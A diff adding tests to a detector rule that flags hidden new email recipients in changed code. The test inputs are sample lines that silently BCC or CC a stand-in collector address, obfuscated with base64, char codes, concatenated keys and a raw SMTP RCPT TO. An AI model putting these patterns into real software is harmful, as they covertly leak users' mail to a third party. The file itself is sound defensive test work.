@@ -135,4 +135,59 @@ describe('content/new-email-recipient', () => {
     expect(findings).toHaveLength(1)
     expect(findings[0]?.severity).toBe(severity)
   })
+
+  describe('read through the parser', () => {
+    it.each([
+      ['a concatenated key', "  sendMail({ to, ['B' + 'cc']: 'archive@collector.io' })"],
+      ['a base64 address', "  sendMail({ to, Bcc: atob('YXJjaGl2ZUBjb2xsZWN0b3IuaW8=') })"],
+      [
+        'a Buffer-decoded address',
+        "  sendMail({ to, bcc: Buffer.from('YXJjaGl2ZUBjb2xsZWN0b3IuaW8=', 'base64').toString() })"
+      ],
+      [
+        'char codes',
+        '  sendMail({ to, cc: String.fromCharCode(97,114,99,104,105,118,101,64,99,111,108,108,101,99,116,111,114,46,105,111) })'
+      ],
+      ['an upper-case key', "  sendMail({ TO: to, BCC: 'archive@collector.io' })"],
+      ['a concatenated assignment key', "  mail['b' + 'cc'] = 'archive@collector.io'"],
+      ['headers.set', "  headers.set('B' + 'cc', 'archive@' + 'collector.io')"],
+      ['a decoded RCPT TO', "  socket.write(atob('UkNQVCBUTzo8YXJjaGl2ZUBjb2xsZWN0b3IuaW8+'))"],
+      ['a recipients array', "  send({ recipients: [user, 'archive@' + 'collector.io'] })"]
+    ])('fires on %s', async (_name, line) => {
+      const findings = await rule.check(
+        changed({ 'index.js': send('') }, { 'index.js': send(line) })
+      )
+      expect(findings).toHaveLength(1)
+      expect(findings[0]?.message).toContain('archive@collector.io')
+      expect(findings[0]?.evidence).toEqual([
+        expect.objectContaining({ file: 'index.js', line: 2 })
+      ])
+    })
+
+    it('reports a line found both ways once', async () => {
+      const line = "  sendMail({ to, bcc: 'archive@collector.io' })"
+      const findings = await rule.check(
+        changed({ 'index.js': send('') }, { 'index.js': send(line) })
+      )
+      expect(findings[0]?.evidence).toHaveLength(1)
+    })
+
+    it('knows an address the previous version sent to under a decoded spelling', async () => {
+      const line = "  sendMail({ to, Bcc: atob('YXJjaGl2ZUBjb2xsZWN0b3IuaW8=') })"
+      const findings = await rule.check(
+        changed({ 'index.js': send(line) }, { 'index.js': send(line) + '\nexport const v = 2\n' })
+      )
+      expect(findings).toEqual([])
+    })
+
+    it.each([
+      ['another key on the line', "  sendMail({ to: user.email, from: 'noreply@acme.io' })"],
+      ['a call argument on the line', "  sendMail({ to: user.email }, 'noreply@acme.io')"]
+    ])('stays silent on %s', async (_name, line) => {
+      const findings = await rule.check(
+        changed({ 'index.js': send('') }, { 'index.js': send(line) })
+      )
+      expect(findings).toEqual([])
+    })
+  })
 })
